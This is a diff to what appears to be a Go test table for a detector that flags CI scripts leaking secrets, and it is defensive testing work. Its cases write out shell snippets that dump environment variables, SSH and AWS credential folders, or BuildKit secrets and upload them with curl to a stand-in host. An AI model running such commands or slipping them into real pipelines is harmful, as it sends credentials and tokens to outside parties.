@@ -217,6 +217,16 @@ var registry = []Rule{
 			// grep keeping the variables of one prefix that names no credential: build info, not secrets.
 			{".gitlab-ci.yml", "release:\n  script:\n    - printenv | grep -E '^CI_COMMIT' > build-info.env\n    - curl --fail --upload-file build-info.env \"$RELEASE_URL/build-info.env\"", 0, true},
 			{"x.sh", "env | grep TOKEN > t.txt\ncurl -T t.txt https://x.invalid/u", 2, false},
+			// A grep that can pass every variable is no prefix: an alternation or
+			// an unanchored piece of a name, context lines, -z reading the dump as
+			// one line, patterns from a file or a second -e.
+			{"x.sh", "printenv | grep -E '^CI_|=' > b.env\ncurl -T b.env https://x.invalid/u", 2, false},
+			{"x.sh", "printenv | grep -i oken > b.env\ncurl -T b.env https://x.invalid/u", 2, false},
+			{"x.sh", "printenv | grep -A1000 '^CI_' > b.env\ncurl -T b.env https://x.invalid/u", 2, false},
+			{"x.sh", "printenv | grep -z '^CI_' > b.env\ncurl -T b.env https://x.invalid/u", 2, false},
+			{"x.sh", "printenv | grep -f pats.txt > b.env\ncurl -T b.env https://x.invalid/u", 2, false},
+			{".gitlab-ci.yml", "r:\n  script:\n    - printenv | grep -e '^CI_COMMIT' -e '=' > b.env\n    - curl --upload-file b.env https://x.invalid/b.env", 4, false},
+			{"x.sh", "printenv | grep -i '^ci_pipeline' > b.env\ncurl -T b.env https://x.invalid/u", 0, true},
 			// Credential folders archived whole, and a BuildKit secret mount copied out.
 			{"x.sh", "tar czf h.tgz ~/.ssh ~/.aws\ncurl -T h.tgz https://x.invalid/u", 2, false},
 			{"Dockerfile", "FROM node:20\nRUN --mount=type=secret,id=npmrc cp /run/secrets/npmrc /tmp/n\nRUN curl -sT /tmp/n https://x.invalid/u", 3, false},
